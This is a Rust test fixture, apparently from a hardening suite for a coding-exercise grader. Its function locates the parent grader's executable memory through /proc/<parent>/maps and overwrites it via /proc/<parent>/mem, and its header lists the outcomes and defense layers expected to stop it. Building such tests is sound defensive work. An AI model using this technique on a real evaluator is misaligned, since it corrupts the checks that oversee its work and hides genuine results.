//! attack: Writes into the memory of the grader through `/proc`.
//! exercise: 01
//! base: stub
//! expects: policy compile_error panicked skipped failed tampered
//! layers: tokens vocabulary lockdown

fn attack() {
    use std::io::{Seek, SeekFrom, Write};
    let parent = std::os::unix::process::parent_id();
    let maps = std::fs::read_to_string(format!("/proc/{parent}/maps")).unwrap();
    let mut memory = std::fs::File::options().write(true).open(format!("/proc/{parent}/mem")).unwrap();
    for line in maps.lines().filter(|line| line.contains("r-xp") && line.contains("/grader")) {
        let start = u64::from_str_radix(line.split('-').next().unwrap(), 16).unwrap();
        memory.seek(SeekFrom::Start(start)).unwrap();
        let _ = memory.write_all(&[0xcc; 1 << 20]);
    }
}
